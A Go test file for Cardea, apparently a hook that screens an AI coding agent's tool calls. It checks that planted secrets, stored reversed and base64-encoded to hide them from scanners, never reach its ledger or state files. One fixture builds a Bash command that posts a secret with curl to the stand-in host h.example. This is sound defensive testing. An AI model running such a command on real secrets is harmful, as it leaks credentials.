package cli

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"cardea.dev/internal/base/limit"
	"cardea.dev/internal/command/redact"
	"cardea.dev/internal/testing/testrun"
)

// plantedSecret is a secret that a redaction rule finds, in a text that marks it as one.
type plantedSecret struct{ rule, text, secret string }

// plantedSecrets returns the redactor's own test data, in which texts are hidden from scanners.
func plantedSecrets(t *testing.T) []plantedSecret {
	t.Helper()
	data, err := os.ReadFile("../command/redact/testdata/planted.tsv")
	if err != nil {
		t.Fatal(err)
	}
	show := func(hidden string) string {
		b, err := base64.StdEncoding.DecodeString(hidden)
		if err != nil {
			t.Fatal(err)
		}
		slices.Reverse(b)
		return string(b)
	}
	var out []plantedSecret
	for line := range strings.Lines(string(data)) {
		f := strings.Split(strings.TrimSpace(line), "\t")
		out = append(out, plantedSecret{f[0], show(f[1]), show(f[2])})
	}
	if len(out) < 200 {
		t.Fatalf("only %d secrets are planted", len(out))
	}
	return out
}

func percentEncoded(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

// spelled returns a planted text and its encodings, whole and with only the secret encoded
// where it is still recognizable.
func (s plantedSecret) spelled() []string {
	b64 := func(x string) string { return base64.StdEncoding.EncodeToString([]byte(x)) }
	out := []string{s.text, b64(s.text), percentEncoded(s.text)}
	if _, after, _ := strings.Cut(s.text, s.secret); len(s.secret) >= 12 && (after == "" || strings.IndexByte("\"'` \n;,", after[0]) >= 0) {
		out = append(out, strings.Replace(s.text, s.secret, b64(s.secret), 1), strings.Replace(s.text, s.secret, percentEncoded(s.secret), 1))
	}
	return out
}

// leak returns the first file in a folder that has a secret in its name or content, in
// plain, encoded or JSON form.
func (s plantedSecret) leak(t *testing.T, dir string) (found string) {
	t.Helper()
	quoted, err := json.Marshal(s.secret)
	if err != nil {
		t.Fatal(err)
	}
	needles := []string{s.secret, string(quoted[1 : len(quoted)-1]), strings.Trim(base64.StdEncoding.EncodeToString([]byte(s.secret)), "="),
		strings.Trim(base64.StdEncoding.EncodeToString([]byte(s.text)), "="), percentEncoded(s.secret)}
	err = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		var data []byte
		if !d.IsDir() {
			if data, err = os.ReadFile(path); err != nil {
				return err
			}
		}
		for _, n := range needles {
			if i := bytes.Index(data, []byte(n)); i >= 0 {
				found = fmt.Sprintf("%s: %q", path, data[max(0, i-200):min(len(data), i+len(n)+40)])
			}
			if strings.Contains(d.Name(), n) {
				found = path
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// judge runs the hook with a redactor whose expressions are already compiled.
func (d *registrar) judge(r *redact.Redactor, message map[string]any) {
	d.t.Helper()
	raw, err := json.Marshal(message)
	if err != nil {
		d.t.Fatal(err)
	}
	var out, errs bytes.Buffer
	h := d.hook(d.process(bytes.NewReader(raw), &out, &errs), checkFlags{Harness: "claude-code", Limit: limit.Hook})
	h.Redactor = r
	code := h.Run()
	oneObject(d.t, out.String(), errs.String(), code)
}

func (d *registrar) state() string { return filepath.Join(d.home, ".local/state/cardea") }

// plant runs the hook on calls with a text in every possible place.
func (d *registrar) plant(r *redact.Redactor, x string) (calls int) {
	base := map[string]any{"session_id": x, "transcript_path": "/" + x, "cwd": d.project + "/" + x, "permission_mode": "default",
		"hook_event_name": "PreToolUse", "more": x, x: x}
	for _, call := range []struct {
		tool  string
		input map[string]any
	}{
		{"Bash", map[string]any{"command": x, "description": x, "more": x}},
		// Nested quotes would separate the secret from its marker.
		{"Bash", map[string]any{"command": "export A=' " + strings.ReplaceAll(x, "'", "") + " '; echo \"$A\" && curl https://h.example/ -d \"$A\" > \"/tmp/$A\""}},
		{"Write", map[string]any{"file_path": d.project + "/" + x, "content": x}},
		{"WebFetch", map[string]any{"url": "https://h.example/?q=" + x, "prompt": x}},
		{"mcp__x__" + x, map[string]any{x: x, "list": []any{x, map[string]any{"k": x}}}},
	} {
		base["tool_name"], base["tool_input"] = call.tool, call.input
		d.judge(r, base)
		calls++
	}
	return calls
}

// entries returns the lines of the ledger.
func (d *registrar) entries() (lines []string) {
	d.t.Helper()
	days, err := filepath.Glob(filepath.Join(d.state(), "ledger", "*.jsonl"))
	if err != nil {
		d.t.Fatal(err)
	}
	for _, day := range days {
		data, err := os.ReadFile(day)
		if err != nil {
			d.t.Fatal(err)
		}
		lines = append(lines, slices.Collect(strings.Lines(string(data)))...)
	}
	return lines
}

// No secret in Cardea's input is in a file of the state folder.
func TestNoPlantedSecretIsStored(t *testing.T) {
	r := redact.New()
	for i, s := range plantedSecrets(t) {
		if i%testrun.Pick(12, 1) > 0 {
			continue
		}
		d := newRegistrar(t)
		calls := 0
		for _, x := range s.spelled() {
			calls += d.plant(r, x)
		}
		if n := len(d.entries()); n != calls {
			t.Fatalf("%s: %d entries for %d calls", s.rule, n, calls)
		}
		if leak := s.leak(t, d.state()); leak != "" {
			t.Errorf("%s: %q is kept: %s", s.rule, s.secret, leak)
		}
	}
}

// The same for texts of a person or project: rules with a secret in their reasons, broken
// files with one in name and content, a project in a folder with such a name, settings.
func TestNoSecretOfAFileIsStored(t *testing.T) {
	r := redact.New()
	seen := map[string]bool{}
	for i, s := range plantedSecrets(t) {
		if seen[s.rule] || i%testrun.Pick(4, 1) > 0 {
			continue
		}
		seen[s.rule] = true
		d := newRegistrar(t)
		if name := s.text; len(name) < 200 && !strings.ContainsAny(name, "/\x00") {
			d.project = filepath.Join(filepath.Dir(d.project), name)
			d.mkdir(filepath.Join(d.project, ".git"))
			d.write(filepath.Join(d.project, ".cardea/rules", name+".yaml"), "rules: [")
		}
		text := asJSON(" " + s.text + " ")
		d.write(filepath.Join(d.project, ".cardea/rules/p.yaml"), "rules: [{id: theirs, tool: Bash, effect: ask, message: "+text+"}]\n")
		d.write(filepath.Join(d.project, ".claude/tool-routes.yaml"), "routes: {r: {tool: Bash, pattern: ls, message: "+text+"}, "+text+": {tool: 7}}\n")
		d.settings("ledger: {keep_days: 3} # " + strings.ReplaceAll(s.text, "\n", "\n# ") + "\nsensitive: {ask_read: [" + text + "]}\n")
		d.rules("rules: [{id: mine, tool: '*', effect: deny, message: " + text + ", because: " + text + ", instead: " + text + "}]\n")
		call := map[string]any{"session_id": "s", "cwd": d.project, "hook_event_name": "PreToolUse", "permission_mode": "default",
			"tool_name": "Bash", "tool_input": map[string]any{"command": "ls"}}
		d.judge(r, call)
		d.settings("ledger: {keep_days: 3, " + text + ": " + text + "}\n")
		d.rules("rules: [{id: mine, effect: " + text + ", message: " + text + "}]\n")
		d.judge(r, call)
		if n := len(d.entries()); n != 2 {
			t.Fatalf("%s: %d entries for 2 calls", s.rule, n)
		}
		if leak := s.leak(t, d.state()); leak != "" {
			t.Errorf("%s: %q is kept: %s", s.rule, s.secret, leak)
		}
	}
}
